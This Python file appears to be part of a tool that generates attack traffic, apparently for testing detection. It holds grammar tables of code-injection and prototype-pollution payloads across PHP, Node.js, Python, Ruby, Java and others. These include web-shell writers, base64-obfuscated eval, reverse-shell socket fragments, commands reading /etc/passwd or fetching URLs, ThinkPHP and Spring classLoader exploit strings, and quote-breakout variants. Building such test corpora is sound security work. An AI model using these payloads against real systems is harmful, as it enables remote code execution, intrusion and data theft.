"""Source code sent as a value: PHP, Node.js (and prototype pollution), Python, Ruby, Perl, Java.

Functions after each language's manual; prototype pollution after the HTML and Node.js write-ups
that CVE records of Kibana, lodash and qs point to.
"""

from traffic.grammars.attacks.pieces import Grammar, Symbols, after_value

# Tables: as many alternatives to a line as fit.
# fmt: off
_SYMBOLS: Symbols = {
    "cmd": (
        "id", "whoami", "ls", "ls -la", "cat /etc/passwd", "uname -a", "curl ‹url›",
        "ping -c ‹d› ‹evil›", "dir", "sleep ‹d›", "wget ‹url›", "nslookup ‹evil›", "echo ‹rnd›",
    ),
    "sg": (
        "$_GET", "$_POST", "$_REQUEST", "$_COOKIE", "$_SERVER", "$_FILES", "$_SESSION", "$GLOBALS",
        "$_ENV", "$HTTP_GET_VARS",
    ),
    "sys": (
        "system", "exec", "passthru", "shell_exec", "popen", "proc_open", "pcntl_exec", "assert",
        "eval",
    ),
    "k": ("‹abc›", "'‹abc›'", "0", "‹d›", '"‹id›"', "cmd", "'cmd'"),
    "php": (
        "‹sys›('‹cmd›')", '‹sys›("‹cmd›")', "phpinfo()", "phpinfo(‹d›)", "phpinfo(‹n›)",
        "die(md5(‹n›))", "print(md5(‹n›))", "‹sys›(‹sg›[‹k›])", "eval(‹sg›[‹k›])",
        "assert(‹sg›[‹k›])", "eval(base64_decode('‹b64s›'))",
        "eval(gzinflate(base64_decode('‹b64s›')))", "file_get_contents('/etc/passwd')",
        "file_put_contents('‹id›.php','<?php ‹sys›(‹sg›[‹k›]);')", "include('‹url›')",
        "require_once('‹/etc/passwd¦‹url››')", "call_user_func('‹sys›','‹cmd›')",
        "array_map('‹sys›',array('‹cmd›'))", 'create_function(\'\',\'‹sys›("‹cmd›");\')',
        'preg_replace(\'/‹abc›/e\',\'‹sys›("‹cmd›")\',\'‹abc›\')', "readfile('/etc/passwd')",
        "highlight_file('‹id›.php')", "show_source(__FILE__)", "scandir('/‹id›')", "print_r(‹sg›)",
        "var_dump(‹sg›)", "extract(‹sg›)", "move_uploaded_file(‹sg›[‹k›],'‹id›.php')",
        "copy('‹url›','‹id›.php')", "print `‹cmd›`",
        "ini_set('‹disable_functions¦open_basedir¦allow_url_include›','')",
        "unserialize(‹sg›[‹k›])", "$‹abc#1›='sys'.'tem';$‹abc#1›('‹cmd›')",
        "('sys'.'tem')('‹cmd›')", "(‹sys›)('‹cmd›')", '"\\x73ystem"(\'‹cmd›\')',
        "${‹sys›('‹cmd›')}", "chr(‹n›).chr(‹n›).‹sys›(‹cmd›)", "set_time_limit(0);‹sys›('‹cmd›')",
        "error_reporting(0);eval(‹sg›[‹k›])", "$f='‹sys›';$f('‹cmd›')",
        "(~%8c%86%8c%8b%9a%92)(~%‹hex2›%‹hex2›)", "register_shutdown_function('‹sys›','‹cmd›')",
        "usort($‹abc›,'‹sys›')", "getallheaders(){‹d›}(‹n›)", "sleep(‹d›);phpinfo()",
        "fopen('‹url›','r')", 'mb_ereg_replace(\'.*\',\'‹sys›("‹cmd›")\',\'\',\'e\')',
    ),
    "nodecmd": (
        "require('child_process').exec('‹cmd›')",
        "require('child_process').execSync('‹cmd›').toString()",
        'require("child_process").spawn(\'‹cmd›\')',
        "process.mainModule.require('child_process').execSync('‹cmd›')",
        "global.process.mainModule.constructor._load('child_process').exec('‹cmd›')",
        "Object.keys(process.env)",
        "process.exit(‹n›)", "process.kill(process.pid)", "process.binding('spawn_sync')",
        "require('fs').readFileSync('/etc/‹passwd¦‹id››').toString()",
        "require('fs').readdirSync('‹.¦/›')", "require('fs').writeFileSync('‹id›.js','‹rnd›')",
        "while(1){}//‹rnd›", "new Function('return process.env')()",
        "this.constructor.constructor('return process')().exit()",
        "require('net').connect(‹port›,'‹ip›')", "require('http').get('‹url›')",
        "eval(Buffer.from('‹b64s›','base64').toString())",
        "res.end(require('os').‹hostname¦userInfo¦networkInterfaces›())",
        "import('child_process').then(‹abc#1›=>‹abc#1›.exec('‹cmd›'))",
        "setTimeout(()=>{require('child_process').exec('‹cmd›')},‹n›)",
        "Function('return this')().process.env.‹id›",
        "root.process.mainModule.require('fs').unlinkSync('‹id›')",
        "(function(){return process.versions})()", "Deno.run({cmd:['‹cmd›']})",
    ),
    "py": (
        "__import__('os').system('‹cmd›')", "__import__('os').popen('‹cmd›').read()",
        "__import__('subprocess').check_output('‹cmd›',shell=True)",
        'exec(\'import os;os.system("‹cmd›")\')',
        'eval(compile(\'import os;os.system("‹cmd›")\',\'‹abc›\',\'exec\'))',
        "import os; os.system('‹cmd›')", "open('/etc/‹passwd¦‹id››').read()",
        "getattr(__import__('os'),'sys'+'tem')('‹cmd›')", "__import__('time').sleep(‹d›)",
        "__builtins__.__dict__['__import__']('os').system('‹cmd›')",
        "().__class__.__bases__[0].__subclasses__()[‹n›]", "str(__import__('os').environ)",
        "import socket,subprocess,os;s=socket.socket();s.connect(('‹ip›',‹port›))",
        "__import__('urllib.request').request.urlopen('‹url›').read()",
        "(lambda: __import__('os').system('‹cmd›'))()",
        "[c for c in ().__class__.__base__.__subclasses__() if c.__name__=='Popen'][0]('‹cmd›',"
        "shell=True)",
        "exec(__import__('base64').b64decode('‹b64s›'))",
        "globals()['__builtins__']['eval']('‹n›')", "breakpoint()#‹rnd›",
        "__import__('pty').spawn('/bin/‹sh¦bash›')#‹rnd›",
        'eval("__import__(\'os\').listdir(\'/‹id›\')")',
        "importlib.import_module('os').system('‹cmd›')",
    ),
    "ruby": (
        "system('‹cmd›')", "print `‹cmd›`", "%x(‹cmd›)", "Kernel.exec('‹cmd›')",
        "IO.popen('‹cmd›').read", "File.read('/etc/‹passwd¦‹id››')",
        "eval(Base64.decode64('‹b64s›'))", "require 'open3';Open3.capture2('‹cmd›')",
        "send(:system,'‹cmd›')", "Object.const_get('Kernel').system('‹cmd›')",
        "open('|‹cmd›').read", "instance_eval('`‹cmd›`')",
    ),
    "poll": (
        "isAdmin", "admin", "role", "shell", "outputFunctionName", "env", "NODE_OPTIONS", "argv0",
        "polluted", "‹id›", "‹rnd›", "status", "sourceURL", "escapeFunction", "client", "block",
        "innerHTML", "src",
    ),
    "pv": (
        "true", "1", '"‹rnd›"', '"admin"', '{"‹id›":"‹rnd›"}', '"‹nodecmd›"',
        '"--require /proc/self/environ"', '["‹rnd›"]', "null",
    ),
}

_GRAMMAR = Grammar(_SYMBOLS)
_BEHIND = Grammar(_SYMBOLS, finish=after_value(0.4))

RULES = {
    **_GRAMMAR.rules(
        php_call=(
            "‹php›;", "‹php›", "‹php›;//", "‹php›;‹php›;", "@‹php›;", "echo ‹php›;", "exit(‹php›);",
            "if(‹d›){‹php›;}", "return ‹php›;",
        ),
        php_tag=(
            "<?php ‹php›; ?>", "<?php ‹php›;", "<?= ‹php› ?>", "<?=‹php›;?>", "<? ‹php›; ?>",
            "<?php\n‹php›;\n?>", "<script language='php'>‹php›;</script>", "<%= ‹php› %>‹abc›",
            "<?php echo ‹php›;?>", "<?PHP ‹php›;?>", "GIF89a;<?php ‹php›;?>",
        ),
        php_string=(
            "${@‹php›}", "{${‹php›}}", "${eval(‹sg›[‹k›])}", "${${‹php›}}", "{${phpinfo()}}‹rnd›",
            "${@print(md5(‹n›))}\\", "{${@print(md5(‹n›))}}",
        ),
        superglobals=(
            "‹sg›[‹k›]=‹rnd›;‹php›", "GLOBALS[‹id›]=‹rnd›&_SERVER[DOCUMENT_ROOT]=‹url›",
            "_‹SERVER¦SESSION¦ENV¦GET¦REQUEST›[‹id›]=‹url›",
            "-d allow_url_include=‹on¦1¦true› -d auto_prepend_file=‹php://input¦‹url››",
            "-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input+‹abc›", "-s%20-d%20‹id›",
            "_SESSION[‹id›]=‹php›", "‹sg›[‹k›](‹sg›[‹k›])",
            "%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3d‹php://input¦‹url››",
            "invokefunction&function=call_user_func_array&vars[0]=‹sys›&vars[1][]=‹cmd›",
            "s=index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=phpinfo&var"
            "s[1][]=‹n›",
            "/index.php?s=/Index/\\think\\app/invokefunction&function=‹sys›&vars[1][]=‹cmd›",
            "_method=__construct&filter[]=‹sys›&method=get&server[REQUEST_METHOD]=‹cmd›",
        ),
        node=(
            "‹nodecmd›", "‹nodecmd›;", "(function(){‹nodecmd›})()", 'eval("‹nodecmd›")',
            "return ‹nodecmd›", "_$$ND_FUNC$$_function(){‹nodecmd›}()",
            '{"‹id›":"_$$ND_FUNC$$_function (){‹nodecmd›}()"}', "await ‹nodecmd›",
            "console.log(‹nodecmd›)",
        ),
        prototype=(
            '{"__proto__":{"‹poll›":‹pv›}}', '{"constructor":{"prototype":{"‹poll›":‹pv›}}}',
            "__proto__[‹poll›]=‹rnd›", "__proto__.‹poll›=‹rnd›",
            "constructor[prototype][‹poll›]=‹rnd›", "constructor.prototype.‹poll›=‹pv›",
            "?__proto__[‹poll›]=‹rnd›", "‹id›[__proto__][‹poll›]=‹n›",
            '{"‹id›":{"__proto__":{"‹poll›":‹pv›}}}', "__proto__‹[‹poll›]¦.‹poll›¦[‹poll›][]›",
            "‹id›.__proto__.‹poll›", '["__proto__"]["‹poll›"]', "Object.prototype.‹poll›=‹pv›",
            "__pro__proto__to__[‹poll›]=‹rnd›", "#__proto__[‹poll›]=‹rnd›",
            '{"‹id›":‹n›,"__proto__":{"‹poll›":‹pv›}}',
            "this.constructor.constructor('‹nodecmd›')()", ".__proto__.‹poll› = ‹pv›;",
            '{"__proto__":[],"‹poll›":‹pv›}', "constructor%5Bprototype%5D%5B‹poll›%5D=‹n›",
        ),
        python=(
            "‹py›", "‹py›", "eval('‹abc›') or ‹py›", "{‹py›}", "print(‹py›)", "lambda: ‹py›",
            'f"{‹py›}"', '"""+‹py›+"""',
        ),
        ruby=(
            "eval('‹ruby›')", "puts ‹ruby›;#‹rnd›", "Kernel.‹ruby›", "__send__(:eval,'‹ruby›')",
            "ObjectSpace.each_object{|‹abc›| ‹ruby›}", "|‹cmd›\n‹ruby›", "x=‹ruby›;puts x",
            "‹n›.instance_eval{‹ruby›}",
        ),
        perl_and_others=(
            "print `‹cmd›`;exit", "system('‹cmd›');print '‹rnd›'", "@{[‹system¦exec›('‹cmd›')]}",
            "open(F,'‹cmd›|');print <F>", '<!--#perl sub="sub {‹system¦exec›(\'‹cmd›\')}" -->',
            "[exec ‹cmd›]", "os.execute('‹cmd›')", "io.popen('‹cmd›'):read('*a')",
            "local f=io.popen('‹cmd›');return f:read('*a')",
            'CreateObject("WScript.Shell").Run("‹cmd›")', "response.write(‹n›*‹n›)",
            '<%response.write(CreateObject("WScript.Shell").Exec("‹cmd›").StdOut.ReadAll())%>',
            '<cfexecute name="‹cmd›" timeout="‹n›"/>', "use POSIX;POSIX::system('‹cmd›');#‹rnd›",
            "{!system('‹cmd›')}", "erlang:halt().%‹rnd›", 'os:cmd("‹cmd›").',
        ),
        java=(
            'Runtime.getRuntime().exec("‹cmd›")',
            'Class.forName("java.lang.Runtime").getRuntime().exec("‹cmd›")',
            "class.module.classLoader.‹URLs[0]=‹url›¦resources.context.‹id›=‹rnd›¦"
            "defaultAssertionStatus=‹id››",
            "class.classLoader.‹URLs[0]¦resources.dirContext.docBase¦parent.‹id››=‹url›",
            "System.setSecurityManager(null);‹id›()",
            'new URLClassLoader(new URL[]{new URL("‹url›")}).loadClass("‹id›")',
            "class['classLoader']['resources']['dirContext']['docBase']=‹url›",
            "class.module.classLoader.resources.context.parent.pipeline.first.‹pattern=%25{c2}i¦"
            "suffix=.jsp¦directory=webapps/‹id›¦prefix=‹id››",
            'ProcessBuilder("‹cmd›").start()',
            'new java.io.FileReader("/etc/‹passwd¦‹id››").read()',
        ),
    ),
    **_BEHIND.rules(
        php_breakout=(
            "';‹php›;//", '";‹php›;//', "'.‹php›.'", '".‹php›."', "');‹php›;//", '");‹php›;#',
            "'.‹php›;//", "'];‹php›;//", "';‹php›;$‹abc›='", "\\';‹php›;//", "{${‹php›}}",
            "};‹php›;{", "*/‹php›;/*", "';}‹php›;/*", "?><?php ‹php›;?>", "\n‹php›;", ";‹php›",
            "'-‹php›-'", '".${@‹php›}."',
        ),
        node_breakout=(
            "';‹nodecmd›;//", '";‹nodecmd›//', "'+‹nodecmd›+'", '"+‹nodecmd›+"', "`+‹nodecmd›+`",
            "${‹nodecmd›}", "});‹nodecmd›;({", "';return ‹nodecmd›;var ‹abc›='", ";‹nodecmd›",
            "\n‹nodecmd›//", "*/‹nodecmd›/*", "')||‹nodecmd›||('",
        ),
        python_breakout=(
            "'+‹py›+'", '"+str(‹py›)+"', "');‹py›#", "'%(‹py›)#", "\n‹py›\n", "' or ‹py› or '",
            ");‹py›#", "'''+‹py›+'''", "' if ‹py› else '", '";‹py›#', "{‹py›}",
        ),
        ruby_breakout=(
            "'+‹ruby›+'", '";‹ruby›;"', '#{‹ruby›}"+"', "');‹ruby›#", "';‹ruby›;'",
            "\nputs ‹ruby›\n",
        ),
    ),
}
